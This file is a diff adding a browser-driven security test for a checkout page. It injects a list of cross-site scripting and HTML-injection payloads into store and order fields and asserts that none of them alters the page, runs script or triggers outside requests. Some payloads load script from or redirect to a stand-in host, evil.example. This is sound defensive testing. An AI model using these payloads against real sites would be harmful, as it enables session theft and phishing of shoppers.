@@ -1,0 +1,186 @@
+import assert from 'node:assert/strict'
+import { randomBytes } from 'node:crypto'
+import { test } from 'node:test'
+import { readView } from '../../../src/checkouts/view.ts'
+import { openAssets } from '../../../src/http/page/assets.ts'
+import { english } from '../../../src/http/page/languages/en.ts'
+import { renderPage } from '../../../src/http/page/render.ts'
+import { openRails } from '../../../src/payments/rails.ts'
+import { toTerms } from '../../../src/payments/terms.ts'
+import { completeByHand } from '../../support/by-hand.ts'
+import { openBrowser, openPage } from './support/browser.ts'
+import { openPageShop } from './support/page-shop.ts'
+
+/**
+ * What a store supplies is shown to its buyers on our origin. These strings try to become anything but text. They are
+ * written into the rows themselves, past the checks of the API, because a page must not depend on those.
+ */
+const hostileStrings = 2_000
+const stringsAPage = 200
+
+const sparks = [
+  '<script>pwned=1</script>',
+  '"><script src=//evil.example/x.js></script>',
+  "'><img src=x onerror=pwned=1>",
+  '<svg/onload=pwned=1>',
+  '</title><script>pwned=1</script>',
+  '</script><script>pwned=1</script>',
+  '</textarea></style></noscript><iframe src=javascript:pwned=1>',
+  '<!--><script>pwned=1</script>-->',
+  '<![CDATA[<script>pwned=1</script>]]>',
+  '" autofocus onfocus="pwned=1',
+  "' style='background:url(//evil.example/x)' x='",
+  '`onmouseover=pwned=1`',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<base href=//evil.example/>',
+  '<form action=//evil.example><button>Pay</button></form>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<a href=javascript:pwned=1>x</a>',
+  'javascript:pwned=1',
+  '{{constructor.constructor("pwned=1")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack.
+  '${pwned=1}',
+  '{store}{amount}{checkout}{wallet}',
+  '&lt;script&gt;pwned=1&lt;/script&gt;',
+  '&#60;script&#62;pwned=1&#60;/script&#62;',
+  '\u202egnp.exe\u2066\u2069\u200f',
+  '\u0000<script\u0000>pwned=1</script>',
+  '\u2028\u2029<script>pwned=1</script>',
+  '\ud800<script>pwned=1</script>',
+  '＜script＞pwned=1＜/script＞',
+  '<scr\u0000ipt>pwned=1</scr\u0000ipt>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>',
+  '<template><script>pwned=1</script></template>',
+  '<object data=data:text/html,<script>pwned=1</script>>',
+  '<details open ontoggle=pwned=1>',
+  '\\u003cscript\\u003epwned=1\\u003c/script\\u003e',
+  '</main><main data-status=COMPLETED>',
+  '<bdo dir=rtl>',
+  'Z̴̡͚͘a̷l̵g̸o̶'.repeat(3),
+]
+const joints = ['', ' ', '"', "'", '>', '<', '/', '--!>', '\n', '\t', '`', '=', '&', ';', ']]>', '\\']
+
+const strings = Array.from({ length: hostileStrings }, (_, i) => {
+  const spark = sparks[i % sparks.length] ?? ''
+  const joint = joints[Math.floor(i / sparks.length) % joints.length] ?? ''
+  const other = sparks[(i * 7 + 3) % sparks.length] ?? ''
+  return i < sparks.length ? spark : `${randomBytes(2).toString('hex')}${joint}${spark}${joint}${other}`
+})
+
+const browser = await openBrowser()
+const shop = await openPageShop({ worker: false })
+// Many strings at once are longer than an order's name may be.
+await shop.ctx.db.query('alter table checkouts drop constraint checkouts_order_id_check')
+await shop.ctx.db.query('drop index checkouts_by_order')
+
+// PostgreSQL has no text with these.
+const storable = (text: string) => text.replaceAll('\u0000', '').toWellFormed()
+
+const redirectTo = (text: string) => {
+  const url = `https://shop.example/${text.replace(/[\s\p{Cc}\\]/gu, '')}`
+  return URL.canParse(url) ? url : null
+}
+
+async function write(id: string, text: string): Promise<void> {
+  await shop.ctx.db.query(
+    `with named as (update stores set name = $2 where id = $3)
+     update checkouts set order_id = $2, success_redirect_url = $4 where id = $1`,
+    [id, storable(text), shop.store.id, redirectTo(storable(text))],
+  )
+}
+
+/** The page's elements and attributes' names, in order: what a hostile string must not change. */
+function skeletonOf(html: string): string {
+  return [...html.matchAll(/<(\/?[a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi)]
+    .map(([, name = '', attributes = '']) => name + attributes.replace(/="[^"]*"/g, ''))
+    .join(' ')
+}
+
+test('none of 2,000 hostile strings, in any field, adds or changes an element of the page', async () => {
+  const place = { url: shop.url, path: '/pay', assets: openAssets() }
+  const [open, paid] = [await shop.create(), await shop.create()]
+  await completeByHand(shop, paid)
+  for (const id of [open, paid]) {
+    const view = await readView(shop.ctx, id)
+    assert(view)
+    const accepts = await toTerms(openRails(shop.ctx), id, view.checkout.options)
+    const render = (text: string) => {
+      const checkout = { ...view.checkout, orderId: text, successRedirectUrl: redirectTo(text) }
+      const hostile = { ...view, checkout, store: { ...view.store, name: text } }
+      const asked = { language: english, query: '', notice: null, isSending: false }
+      return renderPage(shop.ctx, place, hostile, accepts, asked, new Date(0)).text
+    }
+    const skeleton = skeletonOf(render('plain'))
+    assert.match(skeleton, /^html lang dir head meta charset/)
+    for (const text of strings) {
+      const page = render(text)
+      assert.equal(skeletonOf(page), skeleton, text)
+      // biome-ignore lint/suspicious/noControlCharactersInRegex: they must not be there.
+      assert.doesNotMatch(page, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u, text)
+      assert(page.isWellFormed())
+    }
+  }
+})
+
+test('none of 2,000 hostile strings, in any field, runs a script, leaves the page, or breaks its policy', async () => {
+  const [open, paid] = [await shop.create(), await shop.create()]
+  await completeByHand(shop, paid)
+  const { openCheckout, complaints, requests, context } = await openPage(browser, shop)
+  const dialogs: string[] = []
+  context.on('dialog', (dialog) => {
+    dialogs.push(dialog.message())
+    void dialog.dismiss()
+  })
+  await context.addInitScript(
+    "addEventListener('securitypolicyviolation', (event) => console.error(event.violatedDirective), true)",
+  )
+  const page = await openCheckout(open)
+  let seen = 0
+  for (let from = 0; from < strings.length; from += stringsAPage) {
+    const text = strings.slice(from, from + stringsAPage).join(from % 400 === 0 ? '' : ' ')
+    for (const id of [open, paid]) {
+      await write(id, text)
+      await page.goto(`${shop.url}/${id}`)
+      const foreign =
+        'document.querySelectorAll(\'iframe,object,base,link:not([href^="/pay/"]):not([rel=icon])\').length'
+      assert.equal(await page.evaluate(`typeof pwned + ${foreign}`), 'undefined0')
+      // It is there to be read, as text.
+      assert.match(String(await page.locator('.facts dd').first().textContent()), /pwned=1/)
+      assert.equal(page.url(), `${shop.url}/${id}`)
+      seen++
+    }
+  }
+  assert.equal(seen, (2 * hostileStrings) / stringsAPage)
+  assert.deepEqual(dialogs, [])
+  assert.deepEqual(complaints, [])
+  assert(requests.length > seen)
+  for (const url of requests) assert(url.startsWith(shop.url) || url.startsWith('data:'), url)
+})
+
+test('a logo is shown as an image from here, and an SVG in it cannot do anything, even opened by itself', async () => {
+  const svg =
+    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="pwned=1"><script>pwned=1;top.location="//evil.example"</script><rect width="9" height="9" fill="teal"/></svg>'
+  const headers = { 'x-api-key': shop.key, 'content-type': 'application/json' }
+  const payload = {
+    name: 'Shop',
+    logoUrl: `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`,
+  }
+  const changed = await shop.request({
+    method: 'PATCH',
+    url: `/api/v1/stores/${shop.store.id}`,
+    headers,
+    payload,
+  })
+  assert.equal(changed.statusCode, 200, changed.body)
+  const id = await shop.create()
+  const { openCheckout, open, complaints } = await openPage(browser, shop)
+  const page = await openCheckout(id)
+  const logo = page.locator('img.mark')
+  await logo.waitFor()
+  assert.equal(await page.evaluate("document.querySelector('img.mark').naturalWidth > 0"), true)
+  assert.equal(await page.evaluate('typeof pwned'), 'undefined')
+  assert.deepEqual(complaints, [])
+  const alone = await open(`${shop.url}/${id}/logo`)
+  assert.equal(await alone.evaluate('typeof pwned'), 'undefined')
+  assert.equal(alone.url(), `${shop.url}/${id}/logo`)
+})
